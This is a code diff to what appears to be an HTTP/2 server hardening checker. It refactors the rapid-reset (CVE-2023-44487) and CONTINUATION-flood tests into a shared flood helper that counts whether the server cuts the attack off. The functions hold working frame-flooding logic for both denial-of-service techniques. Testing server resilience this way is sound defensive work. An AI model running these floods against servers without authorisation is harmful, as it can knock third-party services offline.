@@ -439,30 +439,45 @@ def h2_ending(c):
     return "closed" if c.closed else "LEFT OPEN"
 
 
+def h2_flood(c, batches, limit):
+    """Sends `batches` (each (bytes, units)) until `limit` units, a
+    GOAWAY or the connection's end; how many units were sent, and whether
+    the server cut the flood off before the limit."""
+    sent = 0
+    try:
+        for data, units in batches:
+            if sent >= limit or c.goaway is not None or c.closed:
+                break
+            c.send(data)
+            sent += units
+            c.read(0.01)
+    except OSError:
+        c.closed = True
+    c.read(5)
+    cut_off = (c.goaway is not None or c.closed) and sent < limit
+    c.close()
+    return sent, cut_off
+
+
 def attack_h2_rapid_reset(args):
     """CVE-2023-44487: streams opened and cancelled at once, as fast as
     the client can."""
     c = H2(args, 0)
     c.read(1)
-    sent = 0
-    try:
-        while sent < 20000 and c.goaway is None and not c.closed:
+
+    def batches():
+        while True:
             batch = b""
             for _ in range(100):
                 n = c.next_stream
                 c.next_stream += 2
                 batch += h2_frame(HEADERS, END_HEADERS | END_STREAM, n, hpack_get("/healthz"))
                 batch += h2_frame(RST_STREAM, 0, n, struct.pack(">I", 8))  # CANCEL
-            c.send(batch)
-            sent += 100
-            c.read(0.01)
-    except OSError:
-        c.closed = True
-    c.read(5)
-    ok = c.goaway is not None or c.closed
-    c.close()
+            yield batch, 100
+
+    sent, cut_off = h2_flood(c, batches(), 20000)
     check(args, "HTTP/2 rapid reset (20,000 streams opened and cancelled)",
-          f"{h2_ending(c)} after {sent} streams sent", ok=ok and sent < 20000)
+          f"{h2_ending(c)} after {sent} streams sent", ok=cut_off)
 
 
 def attack_h2_continuation(args):
@@ -471,20 +486,17 @@ def attack_h2_continuation(args):
     c = H2(args, 1)
     c.read(1)
     field = b"\x00\x03x-a\x64" + b"v" * 100
-    sent = 0
-    try:
-        c.send(h2_frame(HEADERS, END_STREAM, 1, field))
-        while sent < 1 << 20 and c.goaway is None and not c.closed:
-            c.send(h2_frame(CONTINUATION, 0, 1, field) * 10)
-            sent += 10 * (9 + len(field))
-            c.read(0.01)
-    except OSError:
-        c.closed = True
-    c.read(5)
-    ok = c.goaway is not None or c.closed
-    c.close()
+    first = h2_frame(HEADERS, END_STREAM, 1, field)
+    more = h2_frame(CONTINUATION, 0, 1, field) * 10
+
+    def batches():
+        yield first, len(first)
+        while True:
+            yield more, len(more)
+
+    sent, cut_off = h2_flood(c, batches(), 1 << 20)
     check(args, "HTTP/2 CONTINUATION flood (1 MB header block)",
-          f"{h2_ending(c)} after {sent // 1024} KiB sent", ok=ok and sent < 1 << 20)
+          f"{h2_ending(c)} after {sent // 1024} KiB sent", ok=cut_off)
 
 
 def attack_h2_no_window(args):
